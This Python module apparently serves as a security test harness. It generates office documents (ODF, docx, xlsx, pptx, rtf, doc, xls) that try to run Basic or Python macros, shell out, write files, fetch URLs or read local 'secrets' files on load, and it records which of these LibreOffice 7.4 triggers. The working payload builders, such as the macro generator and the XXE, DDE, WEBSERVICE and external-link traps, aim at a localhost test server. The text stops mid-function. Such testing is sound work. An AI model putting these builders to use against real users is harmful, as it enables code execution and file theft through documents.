"""traps: documents that try something when they are loaded or written out, for every format that can carry it.

Each trap is named FORMAT-WHAT and carries that name in whatever it touches, so that an effect tells its trap: it fetches
http://127.0.0.1:PORT/NAME.EXT, writes SITE/drops/NAME, runs SITE/mark NAME, or reads SITE/secrets/NAME.EXT. `springs` is what an
unlocked LibreOffice 7.4 does with it, seen by trial; empty: nothing, `why` says the reason. Documents alone; who opens them
is table.py.
"""
import dataclasses
import struct
from pathlib import Path
from typing import Callable

import biff
import cfb
import ooxml
import vba
import xlsb
from ooxml import book, book_bytes, book_sheet, show, show_bytes, show_slide, slide_name, text_box, text_cell, word, word_bytes
from package import MIME, ODF_XML, XML, Ooxml, escaped, odf, odf_document

FETCH, WRITE, RUN, READ = "fetch", "write", "run", "read"
VISIBLE = "罠の文書"
FAMILY = {**dict.fromkeys("odt ott fodt docx docm dotx dotm doc rtf".split(), "writer"),
          **dict.fromkeys("ods fods xlsx xlsm xltx xlsb xls csv".split(), "calc"),
          **dict.fromkeys("odp fodp pptx pptm ppsx ppt".split(), "impress"), "odg": "draw"}


EXPORT = {"doc": "MS Word 97", "rtf": "Rich Text Format", "xls": "MS Excel 97", "ppt": "MS PowerPoint 97",
          "docx": "MS Word 2007 XML", "xlsx": "Calc MS Excel 2007 XML", "pptx": "Impress MS PowerPoint 2007 XML"}


@dataclasses.dataclass
class Site:
    """Where the traps lead: a directory, and a server on 127.0.0.1."""
    directory: Path
    port: int

    def url(self, name):
        return f"http://127.0.0.1:{self.port}/{name}"

    def drop(self, name):
        return f"{self.directory}/drops/{name}"

    def secret(self, name):
        return f"file://{self.directory}/secrets/{name}"

    def mark(self):
        return f"{self.directory}/mark"


@dataclasses.dataclass(eq=False)
class Trap:
    name: str
    format: str
    kind: str
    make: Callable  # Site -> bytes
    springs: frozenset
    why: str = ""
    original: Callable = None  # (Site, name, format) -> bytes, for the same trap in another dress
    source: str = ""  # the format that make writes, where LibreOffice converts it into the trap's own
    finish: Callable = None  # (Site, name) -> bytes -> bytes, after that
    refused: str = ""  # why no document comes of it in the jail: that is an outcome, too

    @property
    def filter(self):
        return EXPORT[self.format]

    @property
    def file(self):
        return f"{self.name}.{self.format}"

    @property
    def family(self):
        return FAMILY[self.format]


TRAPS = []
IN_A_WINDOW = ("iframe",)  # kinds that a hidden view does not spring, and a window does
SECRET_COLOUR = (255, 0, 255)


def trap(kind, formats, springs="", why="", refused=None):
    """Registers make(site, name, format) for each format. springs: words; a mapping gives them by format, and so does refused."""
    def register(make):
        for form in formats.split():
            words = springs.get(form, springs.get("", "")) if isinstance(springs, dict) else springs
            name = f"{form}-{kind}"
            TRAPS.append(Trap(name, form, kind, lambda site, n=name, f=form: make(site, n, f), frozenset(words.split()),
                              why if not words else "", original=make, refused=(refused or {}).get(form, "")))
        return make
    return register


# ---- OpenDocument --------------------------------------------------------------------------------------

TEXTS, SHEETS, SLIDES, DRAWINGS = "odt fodt", "ods fods", "odp fodp", "odg"
ODF = ("odt", "fodt", "ods", "fods", "odp", "fodp", "odg")
ALL_ODF = f"{TEXTS} {SHEETS} {SLIDES} {DRAWINGS}"
PAGE_STYLE = ('<style:page-layout style:name="pm"><style:page-layout-properties fo:page-width="210mm" fo:page-height="297mm"'
              ' fo:margin-top="20mm" fo:margin-bottom="20mm" fo:margin-left="20mm" fo:margin-right="20mm"/></style:page-layout>'
              '<style:style style:name="dp" style:family="drawing-page"/>')
MASTER = '<style:master-page style:name="Default" style:page-layout-name="pm" draw:style-name="dp"/>'
BOX = 'svg:x="20mm" svg:y="30mm" svg:width="60mm" svg:height="40mm"'


def shown(form, inner="", **more):
    """A document that says VISIBLE, with inner where shapes stand: in the paragraph, over the sheet, on the slide."""
    family = FAMILY[form]
    more = {"automatic": PAGE_STYLE + more.pop("automatic", ""), "master": MASTER, **more}
    if family == "writer":
        return odf(form, f"<text:p>{VISIBLE}{inner}</text:p>", **more)
    if family == "calc":
        shapes = inner and f"<table:shapes>{inner}</table:shapes>"
        return odf(form, f'<table:table table:name="表">{shapes}<table:table-row><table:table-cell'
                         f' office:value-type="string"><text:p>{VISIBLE}</text:p></table:table-cell></table:table-row>'
                         '</table:table>', **more)
    return odf(form, f'<draw:page draw:name="p1" draw:master-page-name="Default"><draw:frame {BOX}><draw:text-box><text:p>'
                     f'{VISIBLE}</text:p></draw:text-box></draw:frame>{inner}</draw:page>', **more)


def frame(inner):
    return f'<draw:frame text:anchor-type="as-char" draw:name="f" {BOX}>{inner}</draw:frame>'


def evil_basic(site, name, sub="Main"):
    return (f'Sub {sub}\nOn Error Resume Next\nDim handle As Integer\nhandle = FreeFile\nOpen "{site.drop(name)}" For Output As #handle\n'
            f'Print #handle, "x"\nClose #handle\nShell "{site.mark()}", 0, "{name}"\nDim files\n'
            f'files = CreateUnoService("com.sun.star.ucb.SimpleFileAccess")\nfiles.isFolder("{site.url(name)}")\n'
            'End Sub\n')


SCRIPT = "vnd.sun.star.script:Standard.Module1.Main?language=Basic&location=document"


def basic_trap(event):
    def make(site, name, form):
        # A template is not loaded: a new document is made of it.
        events = (event, "office:new") if form == "ott" else (event,)
        return shown(form, basic=evil_basic(site, name), listeners=[(one, SCRIPT) for one in events])
    return make


ALL_THREE = "fetch write run"
trap("basic-load", ALL_ODF + " ott", ALL_THREE)(basic_trap("dom:load"))
trap("basic-load-finished", ALL_ODF, why="7.4 runs no macro for this event, neither by LibreOfficeKit nor in a hidden view")(
    basic_trap("office:load-finished"))
trap("basic-view", ALL_ODF, ALL_THREE)(basic_trap("office:view-created"))
trap("basic-unload", ALL_ODF, {"fodt": ALL_THREE, "fods": ALL_THREE},
     "7.4.7 ends itself (exit 1) where a package's macro is to run while it is closed")(basic_trap("dom:unload"))
trap("basic-saveto", ALL_ODF, ALL_THREE)(basic_trap("office:copy-to"))


@trap("python-load", "odt ods odp", why="Debian's -nogui packages have no script provider for Python")
def _(site, name, form):
    code = f'import os\ndef main(*a):\n open("{site.drop(name)}", "w")\n os.system("{site.mark()} {name}")\n'
    return shown(form, parts={"Scripts/python/t.py": code},
                 listeners=[("dom:load", "vnd.sun.star.script:t.py$main?language=Python&location=document")])


@trap("beanshell-load", "odt ods odp", why="no script provider for BeanShell without Java")
def _(site, name, form):
    return shown(form, parts={"Scripts/beanshell/Library/t.bsh": f'new java.io.File("{site.drop(name)}").createNewFile();'},
                 listeners=[("dom:load", "vnd.sun.star.script:Library.t.bsh?language=BeanShell&location=document")])


@trap("linked-image", ALL_ODF + " ott", "fetch")
def _(site, name, form):
    return shown(form, frame(f'<draw:image xlink:href="{site.url(name)}.png" xlink:type="simple" xlink:show="embed"'
                             ' xlink:actuate="onLoad"/>'))


@trap("local-image", ALL_ODF, "read")
def _(site, name, form):
    return shown(form, frame(f'<draw:image xlink:href="{site.secret(name)}.png" xlink:type="simple" xlink:show="embed"'
                             ' xlink:actuate="onLoad"/>'))


@trap("background-image", "odt fodt odp fodp odg", "fetch")
def _(site, name, form):
    link = f'xlink:href="{site.url(name)}.png" xlink:type="simple" xlink:actuate="onLoad"'
    fill = f'<draw:fill-image draw:name="bg" {link}/>'
    if FAMILY[form] == "writer":
        automatic = ('<style:style style:name="P" style:family="paragraph"><style:paragraph-properties fo:background-color='
                     f'"transparent"><style:background-image {link}/></style:paragraph-properties></style:style>')
        return odf(form, f'<text:p text:style-name="P">{VISIBLE}</text:p>', automatic=automatic, styles=fill)
    automatic = ('<style:style style:name="G" style:family="graphic"><style:graphic-properties draw:fill="bitmap"'
                 ' draw:fill-image-name="bg"/></style:style>')
    return shown(form, f'<draw:rect draw:style-name="G" {BOX}/>', automatic=automatic, styles=fill)


@trap("bullet-image", TEXTS, "fetch")
def _(site, name, form):
    automatic = ('<text:list-style style:name="L"><text:list-level-style-image text:level="1"'
                 f' xlink:href="{site.url(name)}.png" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad">'
                 '<style:list-level-properties fo:width="5mm" fo:height="5mm"/></text:list-level-style-image></text:list-style>')
    return odf(form, f'<text:list text:style-name="L"><text:list-item><text:p>{VISIBLE}</text:p></text:list-item></text:list>',
               automatic=automatic)


@trap("iframe", "odt fodt odp fodp odg ods", {"odt": "fetch", "fodt": "fetch"},
      "7.4 loads a floating frame when a window shows it; those of sheets and slides not even then")
def _(site, name, form):
    return shown(form, frame(f'<draw:floating-frame xlink:href="{site.url(name)}.html" xlink:type="simple"'
                             ' xlink:show="embed" xlink:actuate="onLoad"/>'))


@trap("linked-object", ALL_ODF, "fetch")
def _(site, name, form):
    extension = {"writer": "odt", "calc": "ods", "impress": "odp", "draw": "odg"}[FAMILY[form]]
    return shown(form, frame(f'<draw:object xlink:href="{site.url(name)}.{extension}" xlink:type="simple" xlink:show="embed"'
                             ' xlink:actuate="onLoad"/>'))


@trap("media", "odp fodp odt fodt odg", why="a film is fetched when it is played; Debian's -nogui packages have no player")
def _(site, name, form):
    return shown(form, frame(f'<draw:plugin xlink:href="{site.url(name)}.mp4" xlink:type="simple" xlink:show="embed"'
                             ' xlink:actuate="onLoad" draw:mime-type="application/vnd.sun.star.media"/>'))


@trap("slide-sound", SLIDES, why="a sound is fetched when the slide show comes to it")
def _(site, name, form):
    style = ('<style:style style:name="dps" style:family="drawing-page"><style:drawing-page-properties'
             ' presentation:transition-type="automatic" presentation:duration="PT1S">'
             f'<presentation:sound xlink:href="{site.url(name)}.wav" xlink:type="simple" xlink:show="new"'
             ' xlink:actuate="onRequest"/></style:drawing-page-properties></style:style>')
    return odf(form, '<draw:page draw:name="p1" draw:style-name="dps" draw:master-page-name="Default">'
                     f'<draw:frame {BOX}><draw:text-box><text:p>{VISIBLE}</text:p></draw:text-box></draw:frame></draw:page>',
               automatic=PAGE_STYLE + style, master=MASTER)


def section(source):
    return f'<text:p>{VISIBLE}</text:p><text:section text:name="s">{source}<text:p>old</text:p></text:section>'


@trap("section-link", TEXTS, "fetch")
def _(site, name, form):
    return odf(form, section(f'<text:section-source xlink:href="{site.url(name)}.odt" xlink:type="simple"/>'))


@trap("section-local", TEXTS, "read")
def _(site, name, form):
    return odf(form, section(f'<text:section-source xlink:href="{site.secret(name)}.txt" xlink:type="simple"/>'))


@trap("dde-section", TEXTS, "fetch")
def _(site, name, form):
    return odf(form, section(f'<office:dde-source office:name="d" office:dde-application="soffice"'
                             f' office:dde-topic="{site.url(name)}.odt" office:dde-item="bm" office:automatic-update="true"/>'))


@trap("dde-field", TEXTS, "fetch")
def _(site, name, form):
    return odf(form, '<text:dde-connection-decls><text:dde-connection-decl office:name="d" office:dde-application="soffice"'
                     f' office:dde-topic="{site.url(name)}.odt" office:dde-item="bm" office:automatic-update="true"/>'
                     f'</text:dde-connection-decls><text:p>{VISIBLE}<text:dde-connection text:connection-name="d"/></text:p>')


@trap("form-data-source", "odt fodt ods", "fetch")
def _(site, name, form):
    control = ('<form:form form:name="f" form:apply-filter="true" form:command-type="table" form:command="t"'
               f' form:datasource="{site.url(name)}.odb"><form:text form:name="x" xml:id="c1" form:id="c1" form:data-field="a"/>'
               '</form:form>')
    forms = f"<office:forms form:automatic-focus='false' form:apply-design-mode='false'>{control}</office:forms>"
    shape = f'<draw:control draw:control="c1" text:anchor-type="as-char" {BOX}/>'
    if FAMILY[form] == "writer":
        return odf(form, f"{forms}<text:p>{VISIBLE}{shape}</text:p>")
    return odf(form, f'<table:table table:name="t">{forms}<table:shapes>{shape}</table:shapes><table:table-row>'
                     f'<table:table-cell office:value-type="string"><text:p>{VISIBLE}</text:p></table:table-cell></table:table-row>'
                     "</table:table>")


@trap("database-field", TEXTS, why="the data source is asked when fields are updated or letters merged, not when loaded")
def _(site, name, form):
    source = f'text:database-name="{site.url(name)}.odb" text:table-name="t" text:table-type="table"'
    settings = ('<config:config-item-set config:name="ooo:configuration-settings">'
                f'<config:config-item config:name="CurrentDatabaseDataSource" config:type="string">{site.url(name)}.odb'
                '</config:config-item><config:config-item config:name="CurrentDatabaseCommand" config:type="string">t'
                '</config:config-item><config:config-item config:name="CurrentDatabaseCommandType" config:type="int">0'
                "</config:config-item></config:config-item-set>")
    return odf(form, f"<text:p>{VISIBLE}<text:database-next {source}/><text:database-display text:column-name='a' {source}>x"
                     "</text:database-display></text:p>", settings=settings)


@trap("form-submit", TEXTS, why="a form is sent when somebody presses its button, not when it is loaded")
def _(site, name, form):
    return odf(form, f'<office:forms><form:form form:name="f" xlink:href="{site.url(name)}" form:method="get">'
                     '<form:button form:name="b" xml:id="c1" form:id="c1" form:button-type="submit" form:label="送信"/></form:form>'
                     f'</office:forms><text:p>{VISIBLE}<draw:control draw:control="c1" text:anchor-type="as-char" {BOX}/></text:p>')


@trap("macro-link", TEXTS, why="a link is followed when somebody clicks it, not when it is loaded")
def _(site, name, form):
    return odf(form, f'<text:p><text:a xlink:type="simple" xlink:href="macro:///Standard.Module1.Main">{VISIBLE}</text:a></text:p>',
               basic=evil_basic(site, name))


@trap("font-link", ALL_ODF, why="7.4 takes fonts from the package alone")
def _(site, name, form):
    face = (f'<style:font-face style:name="Trap" svg:font-family="Trap"><svg:font-face-src><svg:font-face-uri'
            f' xlink:href="{site.url(name)}.ttf" xlink:type="simple"><svg:font-face-format svg:string="truetype"/>'
            "</svg:font-face-uri></svg:font-face-src></style:font-face>")
    return shown(form, fonts=face)


def formula_sheet(form, formula, before="", after="", cell=""):
    return odf(form, f'{before}<table:table table:name="表"><table:table-row><table:table-cell office:value-type="string">'
                     f'<text:p>{VISIBLE}</text:p></table:table-cell><table:table-cell table:formula="{escaped(formula)}"'
                     f' office:value-type="string">{cell}<text:p>old</text:p></table:table-cell></table:table-row></table:table>{after}')


@trap("webservice", SHEETS, "fetch")
def _(site, name, form):
    return formula_sheet(form, f'of:=COM.MICROSOFT.WEBSERVICE("{site.url(name)}.xml")')


@trap("webservice-local", SHEETS, why="WEBSERVICE takes http and https alone")
def _(site, name, form):
    return formula_sheet(form, f'of:=COM.MICROSOFT.WEBSERVICE("{site.secret(name)}.txt")')


@trap("filterxml", SHEETS, "fetch")
def _(site, name, form):
    return formula_sheet(form, f'of:=COM.MICROSOFT.FILTERXML(COM.MICROSOFT.WEBSERVICE("{site.url(name)}.xml");"//a")')


@trap("dde-formula", SHEETS, "fetch")
def _(site, name, form):
    link = (f'<table:dde-links><table:dde-link><office:dde-source office:dde-application="soffice"'
            f' office:dde-topic="{site.url(name)}.ods" office:dde-item="a1" office:automatic-update="true"/>'
            "<table:table><table:table-row><table:table-cell/></table:table-row></table:table></table:dde-link></table:dde-links>")
    return formula_sheet(form, f'of:=DDE("soffice";"{site.url(name)}.ods";"a1")', after=link)


@trap("external-reference", SHEETS, "fetch")
def _(site, name, form):
    return formula_sheet(form, f"of:=['{site.url(name)}.ods'#$Sheet1.A1]")


@trap("external-local", SHEETS, "read")
def _(site, name, form):
    return formula_sheet(form, f"of:=['{site.secret(name)}.ods'#$Sheet1.A1]")


@trap("hyperlink-formula", SHEETS, why="a link is followed when somebody clicks it, not when it is loaded")
def _(site, name, form):
    return formula_sheet(form, f'of:=HYPERLINK("{site.url(name)}";"x")')


@trap("linked-sheet", SHEETS, "fetch")
def _(site, name, form):
    return odf(form, f'<table:table table:name="表"><table:table-source xlink:type="simple" xlink:href="{site.url(name)}.ods"'
                     ' table:table-name="Sheet1" table:filter-name="calc8" table:mode="copy-all" table:refresh-delay="PT1S"/>'
                     f'<table:table-row><table:table-cell office:value-type="string"><text:p>{VISIBLE}</text:p></table:table-cell>'
                     "</table:table-row></table:table>")


@trap("linked-area", SHEETS, "fetch")
def _(site, name, form):
    area = (f'<table:cell-range-source table:name="HTML_all" xlink:type="simple" xlink:href="{site.url(name)}.html"'
            ' table:filter-name="calc_HTML_WebQuery" table:last-column-spanned="1" table:last-row-spanned="1"'
            ' table:refresh-delay="PT1S"/>')
    return formula_sheet(form, "of:=1", cell=area)


@trap("database-range", SHEETS, why="a database range is read again when somebody asks for it")
def _(site, name, form):
    ranges = ('<table:database-ranges><table:database-range table:name="d" table:target-range-address="表.A1:表.B2"'
              ' table:refresh-delay="PT1S"><table:database-source-table table:database-name="' + site.url(name) + '.odb"'
              ' table:database-table-name="t"/></table:database-range></table:database-ranges>')
    return formula_sheet(form, "of:=1", after=ranges)


@trap("entity-local", ALL_ODF, why="the reader of XML resolves no external entities")
def _(site, name, form):
    prolog = f'<!DOCTYPE office:document [<!ENTITY s SYSTEM "{site.secret(name)}.txt">]>\n'
    return shown(form, prolog=prolog).replace(VISIBLE.encode(), f"{VISIBLE}&s;".encode()) if form.startswith("f") else (
        odf(form, f"<text:p>{VISIBLE}&s;</text:p>", prolog=prolog) if FAMILY[form] == "writer" else
        shown(form, f"<draw:rect {BOX}><text:p>&s;</text:p></draw:rect>", prolog=prolog))


@trap("entity-remote", TEXTS, why="the reader of XML resolves no external entities")
def _(site, name, form):
    return odf(form, f"<text:p>{VISIBLE}&s;</text:p>", prolog=f'<!DOCTYPE office:document [<!ENTITY s SYSTEM "{site.url(name)}.txt">]>\n')


@trap("doctype-remote", TEXTS, why="the reader of XML reads no external subset")
def _(site, name, form):
    return odf(form, f"<text:p>{VISIBLE}</text:p>", prolog=f'<!DOCTYPE office:document SYSTEM "{site.url(name)}.dtd">\n')


@trap("xinclude", TEXTS, why="the reader of XML knows no XInclude")
def _(site, name, form):
    return odf(form, f'<text:p>{VISIBLE}<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text"'
                     f' href="{site.secret(name)}.txt"/></text:p>')


@trap("event-url", "odt fodt ods odp", "fetch")
def _(site, name, form):
    return shown(form, listeners=[("dom:load", site.url(name) + ".odt")])


@trap("event-dispatch", "odt fodt ods odp", "fetch")
def _(site, name, form):
    return shown(form, listeners=[("dom:load", f".uno:Open?URL:string={site.url(name)}.odt&Hidden:bool=true")])


@trap("basic-formula", SHEETS, ALL_THREE)
def _(site, name, form):
    basic = evil_basic(site, name, "Evil()").replace("Sub Evil()", "Function Evil()").replace("End Sub", "Evil = 1\nEnd Function")
    return odf(form, f'<table:table table:name="表"><table:table-row><table:table-cell office:value-type="string"><text:p>{VISIBLE}'
                     '</text:p></table:table-cell><table:table-cell table:formula="of:=EVIL()+RAND()"/></table:table-row></table:table>',
               basic=basic)


# LibreOffice makes machine code for who listens to a form's events, which no jail lets it run.
NO_CODE = "an event of a form wants code made at run time"


@trap("basic-form", "odt fodt ods", why="a form without a data source that opens raises no event",
      refused={"odt": NO_CODE, "fodt": NO_CODE})
def _(site, name, form):
    events = ('<office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load"'
              f' xlink:href="{escaped(SCRIPT)}" xlink:type="simple"/></office:event-listeners>')
    forms = ("<office:forms form:automatic-focus='false' form:apply-design-mode='false'><form:form form:name='f'"
             f" form:command-type='table' form:command='t'>{events}</form:form></office:forms>")
    if FAMILY[form] == "writer":
        return odf(form, f"{forms}<text:p>{VISIBLE}</text:p>", basic=evil_basic(site, name))
    return odf(form, f'<table:table table:name="表">{forms}<table:table-row><table:table-cell office:value-type="string"><text:p>'
                     f"{VISIBLE}</text:p></table:table-cell></table:table-row></table:table>", basic=evil_basic(site, name))


@trap("nested-object", "odt ods odp", "fetch")
def _(site, name, form):
    inner = odf_document("document-content", "<office:body><office:text><text:p>" + frame(
        f'<draw:image xlink:href="{site.url(name)}.png" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/>') +
        "</text:p></office:text></office:body>")
    members = {"Object 1/content.xml": inner, "Object 1/styles.xml": odf_document("document-styles", "<office:styles/>")}
    return shown(form, frame('<draw:object xlink:href="./Object 1" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/>'),
                 parts=members, types={"Object 1/": MIME + "text"})


@trap("nested-object", "fodt", "fetch")
def _(site, name, form):
    inner = odf_document("document", "<office:body><office:text><text:p>" + frame(
        f'<draw:image xlink:href="{site.url(name)}.png" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/>') +
        "</text:p></office:text></office:body>", "text").replace(ODF_XML, "")
    return shown(form, frame(f"<draw:object>{inner}</draw:object>"))


@trap("template", TEXTS, "fetch")
def _(site, name, form):
    meta = (f'<meta:template xlink:type="simple" xlink:actuate="onRequest" xlink:title="t" xlink:href="{site.url(name)}.ott"'
            ' meta:date="2001-01-01T00:00:00"/>')
    data = odf_document("document-meta", f"<office:meta>{meta}</office:meta>")
    if form == "fodt":
        return shown(form, meta=f"<office:meta>{meta}</office:meta>")
    return shown(form, parts={"meta.xml": data})


@trap("macro-field", TEXTS, why="the field of a macro runs when somebody clicks it, not when it is loaded")
def _(site, name, form):
    return odf(form, f'<text:p>{VISIBLE}<text:execute-macro text:name="Standard.Module1.Main">x</text:execute-macro></text:p>',
               basic=evil_basic(site, name))


# ---- binary formats, written by LibreOffice from the above -----------------------------------------------

def converted(source, targets, kinds):
    """kinds: words, each the kind of a trap of source, with /effects where the target springs another."""
    for target in targets.split():
        for word_of in kinds.split():
            kind, _, effects = word_of.partition("/")
            original = next(t for t in TRAPS if t.name == f"{source}-{kind}")
            name = f"{target}-{kind}"
            springs = original.springs if not effects else frozenset(effects.replace("none", "").split("+")) - {""}
            TRAPS.append(Trap(name, target, kind, lambda site, n=name, k=original: k.original(site, n, source), springs,
                              "" if springs else f"{target} has no place for it, or 7.4 does not follow it from there", source=source))


converted("odt", "doc", "linked-image local-image background-image/none bullet-image/none linked-object/none section-link/none"
                        " section-local/none dde-section/none form-data-source/none form-submit database-field iframe/none media"
                        " macro-link")
converted("ods", "xls", "linked-image local-image linked-object/none webservice filterxml dde-formula external-reference/none"
                        " external-local linked-sheet/none linked-area form-data-source/none hyperlink-formula iframe/none")
converted("odp", "ppt", "linked-image local-image background-image linked-object/none media slide-sound iframe/none")
converted("odt", "rtf", "linked-image/none local-image/none section-link/none section-local/none dde-section/none")
converted("ods", "xlsx", "dde-formula linked-sheet/none")


# ---- docx, xlsx, pptx ----------------------------------------------------------------------------------

WORDS, BOOKS, SHOWS = "docx", "xlsx", "pptx"
DRAWN = ('<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr>'
         '<pic:cNvPr id="1" name="p"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip {}/><a:stretch><a:fillRect/></a:stretch>'
         '</pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="1800000" cy="1200000"/></a:xfrm><a:prstGeom prst="rect">'
         "<a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData></a:graphic>")
PICTURE = ('<w:r><w:drawing><wp:inline><wp:extent cx="1800000" cy="1200000"/><wp:docPr id="1" name="p"/>' + DRAWN +
           "</wp:inline></w:drawing></w:r>")
SLIDE_PICTURE = ('<p:pic><p:nvPicPr><p:cNvPr id="9" name="p"/><p:cNvPicPr/><p:nvPr>{}</p:nvPr></p:nvPicPr><p:blipFill>'
                 '<a:blip {}/><a:stretch><a:fillRect/></a:stretch></p:blipFill><p:spPr><a:xfrm><a:off x="900000" y="2500000"/>'
                 '<a:ext cx="1800000" cy="1200000"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr></p:pic>')
SHEET_SPACE = "http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing"
SHEET_PICTURE = (f'{XML}<xdr:wsDr xmlns:xdr="{SHEET_SPACE}" {ooxml.SPACES}><xdr:oneCellAnchor><xdr:from><xdr:col>1</xdr:col>'
                 '<xdr:colOff>0</xdr:colOff><xdr:row>1</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:from><xdr:ext cx="1800000"'
                 ' cy="1200000"/><xdr:pic><xdr:nvPicPr><xdr:cNvPr id="2" name="p"/><xdr:cNvPicPr/></xdr:nvPicPr><xdr:blipFill>'
                 '<a:blip {}/><a:stretch><a:fillRect/></a:stretch></xdr:blipFill><xdr:spPr><a:xfrm><a:off x="0" y="0"/><a:ext'
                 ' cx="1800000" cy="1200000"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></xdr:spPr></xdr:pic>'
                 "<xdr:clientData/></xdr:oneCellAnchor></xdr:wsDr>")


SHEET_SHAPE = (f'<xml xmlns:x="urn:schemas-microsoft-com:office:excel" {ooxml.SPACES}><v:shape id="_x0000_s1025"'
               ' style="position:absolute;width:100pt;height:60pt"><x:ClientData ObjectType="Pict"><x:Anchor>1, 0, 1, 0, 3, 0, 5, 0'
               "</x:Anchor></x:ClientData></v:shape></xml>")


def paragraph(runs=""):
    return f"<w:p><w:r><w:t>{VISIBLE}</w:t></w:r>{runs}</w:p>"


def field(instruction):
    return ('<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> ' + escaped(instruction) +
            ' </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>old</w:t></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r>')


def field_document(form, instruction):
    if form == "rtf":
        return rtf(r"{\field{\*\fldinst { " + rtf_text(instruction) + r" }}{\fldrslt {old}}}")
    return word_bytes(word(form), paragraph(field(instruction)))


def rtf_text(text):
    text = text.replace("\\", "\\\\").replace("{", r"\{").replace("}", r"\}")
    return "".join(c if ord(c) < 128 else rf"\u{ord(c) if ord(c) < 32768 else ord(c) - 65536}?" for c in text)


def struct_moniker(path):
    """OLE 1.0 linked object: class, topic, item ([MS-OLEDS] 2.2.6)."""
    name = b"Excel.Sheet.12\0"
    return (struct.pack("<III", 0x501, 1, len(name)) + name + struct.pack("<I", len(path)) + path + struct.pack("<I", 5) + b"A1:A1"[:4] + b"\0" +
            struct.pack("<III", 0, 0, 0) + struct.pack("<II", 0x501, 0))


def rtf(inner, head=""):
    return (r"{\rtf1\ansi\deff0{\fonttbl{\f0 Times New Roman;}}" + head + r"\pard " + rtf_text(VISIBLE) + inner + r"\par}").encode()


def one_sheet(pack, cells="", after="", before="", tail=""):
    """A workbook of one sheet that says VISIBLE in A1; cells: more of the first row; after: behind the sheet's data."""
    rid = book_sheet(pack, 1, f'<sheetData><row r="1">{text_cell("A1", VISIBLE)}{cells}</row></sheetData>{after}')
    return book_bytes(pack, [("表", rid, "")], before=before, after=tail)


def one_slide(pack, shapes="", after=""):
    return show_bytes(pack, [show_slide(pack, 1, text_box(2, [VISIBLE]) + shapes, after=after)])


def with_picture(form, target):
    if FAMILY[form] == "writer":
        pack = word(form)
        return word_bytes(pack, paragraph(PICTURE.format(f'r:link="{pack.relate(ooxml.DOCUMENT, "image", target, "External")}"')))
    if FAMILY[form] == "impress":
        pack = show(form)
        return one_slide(pack, SLIDE_PICTURE.format("", f'r:link="{pack.relate(slide_name(1), "image", target, "External")}"'))
    pack = Ooxml() if form == "xlsb" else book(form)
    rid = pack.relate("xl/drawings/drawing1.xml", "image", target, "External")
    pack.add("xl/drawings/drawing1.xml", SHEET_PICTURE.format(f'r:link="{rid}"'), ooxml.OFFICE + "drawing+xml")
    if form == "xlsb":
        return xlsb.workbook([("表", [[VISIBLE]], xlsb.VISIBLE)], pack, drawing="../drawings/drawing1.xml")
    rid = pack.relate("xl/worksheets/sheet1.xml", "drawing", "../drawings/drawing1.xml")
    return one_sheet(pack, after=f'<drawing r:id="{rid}"/>')


@trap("linked-image", "docx docm dotx dotm xlsx xlsm xltx xlsb pptx pptm ppsx", "fetch")
def _(site, name, form):
    return with_picture(form, f"{site.url(name)}.png")


@trap("local-image", "docx dotx xlsx xltx xlsb pptx ppsx", "read")
def _(site, name, form):
    return with_picture(form, f"{site.secret(name)}.png")


@trap("vml-image", WORDS, why="7.4 follows no external picture of VML")
def _(site, name, form):
    pack = word(form)
    rid = pack.relate(ooxml.DOCUMENT, "image", f"{site.url(name)}.png", "External")
    return word_bytes(pack, paragraph('<w:r><w:pict><v:shape id="s1" type="#_x0000_t75" style="width:100pt;height:60pt">'
                                      f'<v:imagedata r:href="{rid}" o:href="{site.url(name)}.png"/></v:shape></w:pict></w:r>'))


@trap("header-image", WORDS, "fetch")
def _(site, name, form):
    pack = word(form)
    part = "word/header1.xml"
    rid = pack.relate(part, "image", f"{site.url(name)}.png", "External")
    picture = PICTURE.format(f'r:link="{rid}"')
    rid = ooxml.word_part(pack, "header1.xml", "hdr", f"<w:p>{picture}</w:p>", "header")
    return word_bytes(pack, paragraph(), f'<w:headerReference w:type="default" r:id="{rid}"/>')


@trap("template", "docx docm", why="7.4 keeps the name of the template and does not read it")
def _(site, name, form):
    pack = word(form)
    settings = "word/settings.xml"
    rid = pack.relate(settings, "attachedTemplate", f"{site.url(name)}.dotm", "External")
    ooxml.word_part(pack, "settings.xml", "settings", f'<w:attachedTemplate r:id="{rid}"/><w:linkStyles/>', "settings")
    return word_bytes(pack, paragraph())


@trap("mail-merge", WORDS, why="7.4 does not connect the data source of docx")
def _(site, name, form):
    pack = word(form)
    rid = pack.relate("word/settings.xml", "mailMergeSource", f"{site.url(name)}.csv", "External")
    merge = ('<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:linkToQuery/><w:dataType w:val="textFile"/>'
             f'<w:connectString w:val=""/><w:query w:val="SELECT * FROM {site.url(name)}.csv"/><w:dataSource r:id="{rid}"/>'
             "<w:viewMergedData/><w:odso><w:udl w:val=\"x\"/></w:odso></w:mailMerge>")
    ooxml.word_part(pack, "settings.xml", "settings", merge, "settings")
    return word_bytes(pack, paragraph(field("MERGEFIELD a")))


@trap("include-picture", "docx rtf", why="7.4 shows the result that is stored with the field")
def _(site, name, form):
    return field_document(form, f'INCLUDEPICTURE "{site.url(name)}.png" \\d')


@trap("include-text", "docx rtf", why="7.4 shows the result that is stored with the field")
def _(site, name, form):
    return field_document(form, f'INCLUDETEXT "{site.url(name)}.odt"')


@trap("include-local", "docx rtf", why="7.4 shows the result that is stored with the field")
def _(site, name, form):
